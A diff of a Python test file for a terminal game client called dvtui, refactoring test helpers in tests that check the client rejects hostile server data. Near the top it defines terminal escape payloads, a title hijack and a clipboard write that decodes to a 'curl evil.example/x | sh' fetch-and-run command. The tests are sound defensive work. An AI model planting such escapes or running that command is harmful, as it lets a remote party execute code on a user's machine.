@@ -31,9 +31,9 @@ from dvtui.tables import Diverged, ServerPlace, TableClient, list_tables
 from dvtui.tables import received as received_module
 from dvtui.tables.where import foreign_owner
 
-from ..safety.support import run_dvtui
-from .support import short_dir, wait_for
-from .terminals import Terminals
+from ..support.processes import dvtui
+from ..support.servers import short_dir, wait_for
+from ..support.terminals import Terminals
 
 TITLE = "\x1b]0;PWNED-TITLE\x07"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"  # base64 of "curl evil.example/x | sh"
@@ -191,7 +191,7 @@ def test_the_table_list_is_checked_and_the_command_says_why_in_one_line(
     with short_dir() as d, fake_server(d, listing(info_seats)) as place:
         with pytest.raises(Diverged, match="sent what no dvtui server sends"):
             asyncio.run(list_tables(place))
-        done = run_dvtui("tables", "--server", str(d))
+        done = dvtui("tables", "--server", str(d))
     assert done.returncode == 1 and done.stdout == "", done
     [said] = done.stderr.splitlines()
     assert said.startswith(f"dvtui: error: the table server at {d} sent what no dvtui server sends: "), said
@@ -203,7 +203,7 @@ def test_a_line_longer_than_the_protocols_is_said_in_one_line_never_an_internal_
     huge = [line({"type": "tables", "tables": [info] * 1000})]  # many tables in one line, unpaged
     assert len(huge[0]) > 65536
     with short_dir() as d, fake_server(d, lambda m: huge if m["type"] == "list_tables" else []):
-        done = run_dvtui("tables", "--server", str(d))
+        done = dvtui("tables", "--server", str(d))
     assert done.returncode == 1 and done.stdout == "", done
     assert done.stderr == (
         f"dvtui: error: the table server at {d} sent what no dvtui server sends: "
@@ -214,7 +214,7 @@ def test_a_line_longer_than_the_protocols_is_said_in_one_line_never_an_internal_
 def test_a_bot_client_refuses_a_hostile_table_in_one_line() -> None:
     hostile = table_lines(with_name(created(), 0, "Ana" + CLIPBOARD), seats("Ana", "Bob", "Cy"))
     with short_dir() as d, fake_server(d, hostile):
-        done = run_dvtui("join", "demo", "--bot", "greedy", "--server", str(d))
+        done = dvtui("join", "demo", "--bot", "greedy", "--server", str(d))
     assert done.returncode == 1, done
     [said] = done.stderr.splitlines()
     assert "game_created: players[0].name: the name 'Ana\\x1b]52;c;" in said and "\x1b" not in said, said
@@ -264,6 +264,7 @@ def test_an_endless_stream_of_lines_is_refused_past_what_a_game_file_holds(monke
     assert len(client.events) < bound // 60  # every line is longer than 60 bytes
 
 
+@pytest.mark.root
 def test_a_server_in_another_accounts_directory_is_said_at_connect(
     other_user: pwd.struct_passwd, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -283,11 +284,12 @@ def test_a_server_in_another_accounts_directory_is_said_at_connect(
                 f"dvtui: warning: {theirs} belongs to account {other_user.pw_name}, not to you or root: "
                 "its table server is whatever that account runs there\n"
             )
-            done = run_dvtui("tables", "--server", str(theirs))
+            done = dvtui("tables", "--server", str(theirs))
     assert done.returncode == 0, done
     assert done.stderr.startswith(f"dvtui: warning: {theirs} belongs to account {other_user.pw_name}, "), done
 
 
+@pytest.mark.tmux
 def test_watching_a_hostile_server_in_a_terminal_drives_nothing(tmp_path: Path) -> None:
     """The attack end to end, as a person meets it: ``dvtui watch`` in tmux (with the clipboard on) at a
     server sending a title and a clipboard write in names; the pane's title and tmux's buffers
